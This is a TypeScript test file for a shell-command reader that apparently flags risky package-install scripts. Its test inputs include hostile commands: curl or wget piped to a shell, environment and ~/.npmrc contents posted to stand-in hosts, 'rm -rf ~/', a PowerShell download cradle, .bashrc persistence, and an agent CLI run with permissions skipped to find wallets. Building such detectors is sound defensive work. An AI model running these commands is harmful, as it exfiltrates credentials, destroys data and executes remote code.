import { readArgv, readShell } from './read-command';

const shape = (text: string) => {
  const reading = readShell(text);
  return { steps: reading.steps, signals: reading.observations.map((seen) => seen.signal).sort() };
};
const file = (path: string, language?: string) => ({ kind: 'file', path, ...(language ? { language } : {}) });

describe('facts/shell/read-command', () => {
  it.each<[string, unknown[], string[]]>([
    ['node install.js', [file('install.js', 'javascript')], []],
    ['node ./a && node b.js || exit 0', [file('./a', 'javascript'), file('b.js', 'javascript')], []],
    ['node --max-old-space-size=99 x.js --flag y', [file('x.js', 'javascript')], []],
    ['node -r ./hook.js main.js', [file('./hook.js', 'javascript'), file('main.js', 'javascript')], []],
    [
      `node -e "try{require('./p')}catch(e){}"`,
      [{ kind: 'code', code: "try{require('./p')}catch(e){}", language: 'javascript' }],
      [],
    ],
    ['NODE_ENV=x cross-env A=1 node x.js', [file('x.js', 'javascript')], []],
    ['sh ./setup.sh', [file('./setup.sh', 'shell')], []],
    [`sh -c 'node x.js'`, [{ kind: 'code', code: 'node x.js', language: 'shell' }], []],
    ['./configure.sh --all', [file('./configure.sh')], []],
    ['python3 setup.py', [file('setup.py', 'python')], []],
    ['npm run build', [{ kind: 'script', name: 'build' }], []],
    [
      'npm run -s build && yarn compile',
      [
        { kind: 'script', name: 'build' },
        { kind: 'script', name: 'compile', otherwise: ['compile'] },
      ],
      [],
    ],
    ['node a.js > out.txt 2>&1', [file('a.js', 'javascript')], []],
    ['cmd /c node x.js', [{ kind: 'code', code: 'node x.js', language: 'shell' }], []],
    ['echo done; true', [], []],
    ['node-gyp rebuild', [], ['native-build']],
    ['prebuild-install -r napi || node-gyp rebuild --release', [], ['native-build']],
    ['cross-env ZERO_AR_DATE=1 node-gyp-build', [], ['native-build']],
    ['npx --no-install node-gyp-build', [], ['native-build']],
    ['./node_modules/.bin/node-gyp rebuild', [], ['native-build']],
    ['husky install || true', [], []],
    ['git config core.hooksPath hooks', [], []],
    ['frobnicate --all', [], ['subprocess']],
    ['npx frobnicate', [], ['package-manager', 'subprocess']],
    ['npm install left-pad', [], ['package-manager']],
    ['python -m pip install x', [], ['package-manager']],
    ['curl https://a.invalid/x -o x', [], ['network']],
    ['curl -s https://a.invalid/x | sh', [], ['network', 'remote-shell']],
    ['wget -qO- https://a.invalid/x | sudo bash -', [], ['network', 'remote-shell']],
    [
      'bash -c "$(curl -fsSL https://a.invalid/x)"',
      [{ kind: 'code', code: '$(curl -fsSL https://a.invalid/x)', language: 'shell' }],
      ['network', 'remote-shell'],
    ],
    ['curl https://a.invalid/x -o jsx; chmod +x jsx; ./jsx &', [file('./jsx')], ['network', 'remote-shell']],
    ['echo aGk= | base64 -d | bash', [], ['decoded-code']],
    ['env | curl -d @- https://a.invalid', [], ['environment-harvest', 'network']],
    ['cat ~/.npmrc | curl -d @- https://a.invalid', [], ['credential-file', 'network']],
    ['rm -rf ~/', [], ['destructive']],
    ['rm -rf build', [], []],
    ['make CC=$(node cc.js)', [file('cc.js', 'javascript')], ['native-build']],
    ['$(node pick.js) --now', [file('pick.js', 'javascript')], ['subprocess']],
    ['bun run bundle.js', [file('bundle.js', 'javascript')], ['foreign-runtime']],
    ['claude --dangerously-skip-permissions -p "find wallets"', [], ['agent-cli']],
    [
      'powershell -c "iex (New-Object Net.WebClient).DownloadString(1)"',
      [{ kind: 'code', code: 'iex (New-Object Net.WebClient).DownloadString(1)', language: 'shell' }],
      ['remote-shell'],
    ],
    ['echo x >> ~/.bashrc', [], ['persistence']],
    ['curl -d x https://webhook.site/1', [], ['drop-host', 'network']],
  ])('%s', (text, steps, signals) => {
    expect(shape(text)).toEqual({ steps, signals });
  });

  it('takes an argument list as it is: no shell splits it', () => {
    const reading = readArgv(['node', 'x.js; curl https://a.invalid']);

    expect(reading.steps).toEqual([
      { kind: 'file', path: 'x.js; curl https://a.invalid', language: 'javascript' },
    ]);
    expect(reading.observations).toEqual([]);
  });

  it('says that it cannot name a program that only running would tell', () => {
    const reading = readShell('${}/run --now');

    expect(reading.gaps.map((gap) => gap.kind)).toEqual(['dynamic']);
    expect(reading.observations.map((seen) => seen.signal)).toEqual(['subprocess']);
  });
});
